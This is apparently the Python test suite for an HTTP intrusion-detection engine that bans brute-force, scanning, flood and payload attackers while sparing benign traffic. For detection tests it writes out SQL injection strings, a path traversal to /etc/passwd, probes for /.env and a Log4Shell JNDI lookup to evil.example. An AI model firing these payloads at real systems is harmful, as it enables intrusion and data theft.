from __future__ import annotations

from dataclasses import replace

import pytest

from shieldwall.errors import ConfigError
from shieldwall.runtime.config import WatchConfig, from_mapping
from shieldwall.runtime.decisions import Decision, Detection
from shieldwall.runtime.engine import Engine
from shieldwall.runtime.events import HttpEvent
from shieldwall.runtime.store import DecisionStore

UA = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X)"
T0 = 1_796_292_000.0


def _engine(config: WatchConfig | None = None) -> Engine:
    return Engine(config or WatchConfig(), DecisionStore())


def _req(
    t: float, ip: str, path: str, status: int = 200, method: str = "GET", **kw: str
) -> HttpEvent:
    path, _, query = path.partition("?")
    return HttpEvent(t, ip, method, path, query, status, kw.pop("ua", UA), **kw)


def _decisions(engine: Engine, events: list[HttpEvent]) -> list[Decision]:
    out: list[Decision] = []
    for n, event in enumerate(events, 1):
        out += [o for o in engine.http(event, f"t.log:{n}") if isinstance(o, Decision)]
    return out


def test_a_password_brute_force_is_banned_with_its_evidence() -> None:
    events = [_req(T0 + i, "203.0.113.7", "/api/login", 401, "POST") for i in range(20)]
    made = _decisions(_engine(), events)
    assert [d.scenario for d in made] == ["http-bruteforce"]
    ban = made[0]
    assert (ban.value, ban.scope, ban.type, ban.simulated) == ("203.0.113.7", "ip", "ban", False)
    assert ban.evidence[0] == "t.log:1" and "failed logins on POST /api/login" in ban.reason


def test_a_user_mistyping_a_password_a_few_times_is_not_banned() -> None:
    events = [_req(T0 + 5 * i, "198.51.100.4", "/login", 401, "POST") for i in range(4)]
    events.append(_req(T0 + 30, "198.51.100.4", "/login", 302, "POST"))
    assert _decisions(_engine(), events) == []


def test_a_slow_brute_force_over_hours_is_banned() -> None:
    events = [_req(T0 + 90 * i, "203.0.113.8", "/login", 401, "POST") for i in range(120)]
    made = _decisions(_engine(), events)
    assert [d.scenario for d in made] == ["http-bruteforce-slow"]


def test_credential_stuffing_counts_distinct_users() -> None:
    events = [
        _req(T0 + 2 * i, "203.0.113.9", "/login", 401, "POST", user=f"user{i}") for i in range(12)
    ]
    made = _decisions(_engine(), events)
    assert [d.scenario for d in made] == ["http-credential-stuffing"]


def test_distributed_brute_force_alerts_on_the_route_and_bans_clustered_ranges() -> None:
    engine = _engine()
    out = []
    for i in range(60):
        ip = f"192.0.2.{i}" if i % 2 else f"198.51.{i}.1"
        out += list(engine.http(_req(T0 + i * 0.5, ip, "/login", 401, "POST"), f"t.log:{i}"))
    alerts = [
        o for o in out if isinstance(o, Detection) and o.kind == "http-distributed-bruteforce"
    ]
    ranges = [o for o in out if isinstance(o, Decision) and o.scope == "range"]
    assert alerts and alerts[0].source == "POST /login"
    assert [d.value for d in ranges] == ["192.0.2.0/24"]


def test_path_scanning_and_sensitive_file_probes_are_banned() -> None:
    scan = [_req(T0 + i * 0.2, "203.0.113.10", f"/page{i}", 404) for i in range(30)]
    assert [d.scenario for d in _decisions(_engine(), scan)] == ["http-probing"]
    probes = [
        _req(T0 + i, "203.0.113.11", p, 404)
        for i, p in enumerate(["/.env", "/.git/config", "/wp-admin/"])
    ]
    assert [d.scenario for d in _decisions(_engine(), probes)] == ["http-sensitive-files"]


def test_a_flood_is_throttled_but_a_busy_nat_is_not() -> None:
    flood = [_req(T0 + i / 1000, "203.0.113.12", "/", 200) for i in range(5000)]
    made = _decisions(_engine(), flood)
    assert [(d.scenario, d.type) for d in made] == [("http-flood", "throttle")]
    # 300 people behind one address, each a request every 5 s, a few typos each hour.
    nat = []
    for second in range(0, 1800):
        for user in range(second % 5, 300, 5):
            status = 401 if (user * 7 + second) % 5000 == 0 else 200
            path = "/login" if status == 401 else f"/app/{user % 40}"
            nat.append(
                _req(T0 + second, "192.0.2.200", path, status, "POST" if status == 401 else "GET")
            )
    assert _decisions(_engine(), nat) == []


def test_mobile_retries_on_503_and_uptime_monitors_are_not_banned() -> None:
    retries = [_req(T0 + i * 0.5, "198.51.100.20", "/api/feed", 503) for i in range(200)]
    monitor = [_req(T0 + i * 10, "198.51.100.21", "/healthz", 200) for i in range(5000)]
    assert _decisions(_engine(), retries + monitor) == []


def test_allowlisted_networks_and_agents_are_never_banned() -> None:
    config = from_mapping({"allowlist": {"cidrs": ["203.0.113.0/24"], "user_agents": ["^Pingdom"]}})
    events = [_req(T0 + i, "203.0.113.7", "/api/login", 401, "POST") for i in range(20)]
    events += [
        _req(T0 + i * 0.2, "198.51.100.30", f"/x{i}", 404, ua="Pingdom.com_bot") for i in range(40)
    ]
    assert _decisions(_engine(config), events) == []


def test_simulation_marks_decisions_simulated() -> None:
    config = replace(WatchConfig(), simulate=True)
    events = [_req(T0 + i, "203.0.113.7", "/api/login", 401, "POST") for i in range(20)]
    assert [d.simulated for d in _decisions(_engine(config), events)] == [True]


def test_ipv6_clients_are_grouped_per_64() -> None:
    events = [_req(T0 + i, f"2001:db8:1:2::{i:x}", "/api/login", 401, "POST") for i in range(1, 20)]
    made = _decisions(_engine(), events)
    assert [(d.value, d.scope) for d in made] == [("2001:db8:1:2::/64", "range")]


def test_forwarded_for_is_believed_only_behind_a_trusted_proxy() -> None:
    events = [
        _req(T0 + i, "10.0.0.5", "/api/login", 401, "POST", xff=f"203.0.113.{i % 2}, 10.0.0.4")
        for i in range(40)
    ]
    untrusted = _decisions(_engine(), events)
    assert [d.value for d in untrusted] == ["10.0.0.5"]
    trusted = _decisions(_engine(from_mapping({"trusted_proxies": ["10.0.0.0/8"]})), events)
    assert sorted(d.value for d in trusted) == ["203.0.113.0", "203.0.113.1"]


def test_repeat_offenders_get_longer_decisions_and_active_ones_are_not_repeated() -> None:
    engine = _engine()
    first = [_req(T0 + i, "203.0.113.7", "/api/login", 401, "POST") for i in range(20)]
    again = [_req(T0 + 400 + i, "203.0.113.7", "/api/login", 401, "POST") for i in range(20)]
    later = [_req(T0 + 5 * 3600 + i, "203.0.113.7", "/api/login", 401, "POST") for i in range(20)]
    made = _decisions(engine, first + again + later)
    assert [d.duration for d in made] == [4 * 3600, 8 * 3600]
    assert engine.stats.suppressed >= 1


def test_payload_repeat_offenders_are_banned_after_three() -> None:
    events = [_req(T0 + i, "203.0.113.7", "/item?id=1%27%20and%20sleep(5)--") for i in range(3)]
    assert _decisions(_engine(), events[:2]) == []
    made = _decisions(_engine(), events)
    assert [d.scenario for d in made] == ["http-payload-repeat"]


@pytest.mark.parametrize(
    "target",
    [
        "/item?id=1%27%20or%20%271%27=%271",
        "/item?id=-1%20UNION%20ALL%20SELECT%20NULL,@@version--",
        "/view?file=../../../../etc/passwd",
        "/search?q=%24%7Bjndi:ldap://evil.example/a%7D",
    ],
)
def test_one_unambiguous_payload_is_banned_at_once(target: str) -> None:
    made = _decisions(_engine(), [_req(T0, "203.0.113.7", target)])
    assert [d.scenario for d in made] == ["http-payload-certain"]


def test_the_rules_a_detection_scenario_matches_are_data() -> None:
    config = from_mapping({"scenarios": {"http-payload-certain": {"match": {"rules": ["RT-X"]}}}})
    made = _decisions(_engine(config), [_req(T0, "203.0.113.7", "/view?file=../../etc/passwd")])
    assert made == []
    with pytest.raises(ConfigError, match="http-payload-certain"):
        from_mapping({"scenarios": {"http-payload-certain": {"match": {"rules": "RT-JNDI"}}}})


def test_a_scenario_can_be_overridden_or_disabled_in_the_config() -> None:
    config = from_mapping(
        {
            "scenarios": {
                "http-bruteforce": {"capacity": 100},
                "http-bruteforce-slow": {"enabled": False},
            }
        }
    )
    events = [_req(T0 + i, "203.0.113.7", "/api/login", 401, "POST") for i in range(20)]
    assert _decisions(_engine(config), events) == []


def test_buckets_stay_bounded_with_many_clients() -> None:
    engine = _engine(from_mapping({"max_buckets": 1000}))
    for i in range(70_000):
        engine.http(_req(T0 + i * 0.001, f"10.{i >> 16}.{(i >> 8) & 255}.{i & 255}", "/"), "t:1")
    assert engine.buckets() <= 70_000 - 65_536 + 1000
